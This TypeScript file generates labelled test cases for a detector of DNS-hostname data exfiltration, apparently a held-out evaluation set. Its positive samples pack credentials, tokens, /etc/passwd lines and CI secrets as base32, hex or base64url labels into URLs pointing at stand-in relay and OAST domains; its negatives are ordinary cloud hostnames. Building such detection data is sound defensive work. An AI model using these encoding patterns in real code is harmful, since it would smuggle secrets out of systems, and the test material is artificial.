// Class 6 (url): hostname exfiltration — base32 / hex / base64url data packed into DNS labels,
// split across labels. Benign: CDN / PaaS hostnames with hashes, normal long subdomains.
import { gen, maker, base32, toHex, b64url, DIG, LO } from "./gen.ts";

const g = gen(0xd006);
const { pos, neg, cases } = maker("url", "heldoutd-dns-exfil", "dns");
const T = g.tok;
const chunk = (s: string, n: number) => s.match(new RegExp(`.{1,${n}}`, "g"))!;
const labels = (data: string, n: number) => chunk(data, n).join(".");
const sinks = ["dns.qx7-relay.net", "t.cdn-metrics-sync.com", "u.ns-probe.org", "a.lookup-svc.io", "r.telemetry-edge.net", "k.oast-check.xyz"];
const sink = () => g.pick(sinks);

// ---- positives
pos(`https://${labels(base32(`${T.awsId()}:${T.awsSecret()}`, false).toLowerCase(), 63)}.${sink()}/`, "base32 AWS pair split in 63-char labels");
pos(`http://${labels(toHex(`GITHUB_TOKEN=${T.ghp()}`), 60)}.${sink()}/p.gif`, "hex .env line across labels");
pos(`https://${labels(b64url(T.anthropic()).replace(/_/g, "-"), 50)}.${sink()}/`, "base64url anthropic key labels");
pos(`https://0.${chunk(base32(T.npm(), false).toLowerCase(), 30)[0]}.s${g.int(100, 999)}.${sink()}/`, "chunk 0 of base32 npm token with sequence label");
pos(`https://1.${chunk(base32(T.npm(), false).toLowerCase(), 30)[1]}.s${g.int(100, 999)}.${sink()}/`, "chunk 1 of base32 token with sequence label");
pos(`https://${toHex(T.stripeLive()).slice(0, 62)}.${sink()}/favicon.ico`, "single 62-char hex label (stripe key prefix)");
pos(`https://${labels(base32("root:x:0:0:root:/root:/bin/bash\ndeploy:x:1001:1001::/home/deploy:/bin/sh", false).toLowerCase(), 57)}.${sink()}/`, "base32 /etc/passwd lines");
pos(`https://${labels(toHex(`id_ed25519 ${g.s(60, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/")}`), 56)}.${sink()}:8443/x`, "hex private key fragment with port");
pos(`https://${labels(base32(`${T.slackBot()}`, false), 40)}.${sink()}/?r=${g.int(1, 9999)}`, "upper-case base32 slack token labels");
pos(`https://${labels(toHex(`pw=${g.opaque(18)}`), 16)}.${sink()}/`, "hex in many short 16-char labels");
pos(`https://${toHex(`user=${"admin"};pass=${g.opaque(14)}`)}.${g.hex(8)}.oastify.com/`, "hex in label, known OAST domain");
pos(`http://${labels(base32(T.ghp(), false).toLowerCase(), 32)}.${g.s(20, LO + DIG)}.oast.fun/`, "base32 ghp across labels, interactsh domain");
pos(`https://${chunk(b64url(`sk=${T.stripeLive()}`), 40).join(".")}.${sink()}/pixel.png`, "base64url mixed-case labels");
pos(`https://s${g.int(1, 9)}-c0-${toHex(T.openaiProj()).slice(0, 52)}.${sink()}/`, "session/chunk tagged hex label");
pos(`https://${labels(base32(`HOSTNAME=build-runner-7\nCI_JOB_TOKEN=${g.opaque(20)}\nCI_REGISTRY_PASSWORD=${g.opaque(20)}`, false).toLowerCase(), 63)}.${sink()}/`, "base32 env dump with CI creds");
pos(`https://${labels(toHex(T.doPat()), 63)}.e.${sink()}/`, "DigitalOcean token hex across 3 labels");
pos(`https://img.${labels(base32(`mysql://root:${g.opaque(16)}@10.0.0.5/prod`, false).toLowerCase(), 48)}.${sink()}/a.png`, "DSN in base32, 'img.' prefix to look like CDN");

// ---- benign
neg(`https://d${g.s(13, LO + DIG)}.cloudfront.net/assets/app.${g.hex(8)}.js`, "CloudFront distribution");
neg(`https://${g.s(10, LO + DIG)}.execute-api.us-east-1.amazonaws.com/prod/orders`, "API Gateway id");
neg(`https://${g.s(32, LO + DIG)}.lambda-url.eu-west-1.on.aws/`, "Lambda function URL (32-char label)");
neg(`https://${g.s(20, LO)}.supabase.co/rest/v1/profiles?select=*`, "Supabase project ref");
neg(`https://pub-${g.hex(32)}.r2.dev/images/banner.webp`, "Cloudflare R2 public bucket");
neg(`https://${g.s(12, DIG)}-${g.s(32, LO + DIG)}.apps.googleusercontent.com/`, "Google OAuth client host");
neg(`http://ec2-54-${g.int(10, 250)}-${g.int(1, 250)}-${g.int(1, 250)}.compute-1.amazonaws.com:8080/health`, "EC2 public DNS");
neg(`https://acme-data-lake-prod-eu-west-1-analytics-exports.s3.eu-west-1.amazonaws.com/2024/11/05/part-0001.parquet`, "long S3 bucket name");
neg(`https://${g.hex(32)}.us-central1.gcp.cloud.es.io:9243/_cluster/health`, "Elastic Cloud 32-hex deployment id");
neg(`https://${g.hex(24)}--acme-docs.netlify.app/guide/`, "Netlify deploy permalink");
neg(`https://deploy-preview-${g.int(10, 999)}--acme-docs.netlify.app/`, "Netlify deploy preview");
neg(`https://acme-web-git-feature-checkout-redesign-acme-frontend-team.vercel.app/cart`, "Vercel branch preview (long words)");
neg(`https://fluffy-space-waddle-${g.s(16, LO + DIG)}-3000.app.github.dev/`, "Codespaces forwarded port");
neg(`https://internal-k8s-ingressn-prod-${g.hex(10)}-${g.s(10, DIG)}.us-east-1.elb.amazonaws.com/`, "internal ELB");
neg(`https://acme-prod-${g.s(5, LO + DIG)}-default-rtdb.europe-west1.firebasedatabase.app/users.json`, "Firebase RTDB");
neg(`https://acmestorage${g.s(6, LO + DIG)}.blob.core.windows.net/backups/db-2024-11-05.bak`, "Azure blob storage account");
neg(`https://xn--mnchen-3ya.example.de/stadtplan`, "punycode IDN");
neg(`https://${g.s(8, LO + DIG)}-${g.s(8, LO + DIG)}.a.run.app/`, "Cloud Run style host");
neg(`https://young-meadow-${g.int(10000, 99999)}-${g.hex(12)}.herokuapp.com/`, "Heroku app host with hash");
neg(`https://fonts.gstatic.com/s/inter/v13/UcCO3FwrK3iLTeHuS_fvQtMwCp50KnMw2boKoduKmMEVuLyfAZ9hiA.woff2`, "long hashed path, normal host");
neg(`https://8080-acme-shop-${g.s(11, LO + DIG)}.ws-eu${g.int(100, 120)}.gitpod.io/`, "Gitpod workspace host");
void DIG;

export { cases };
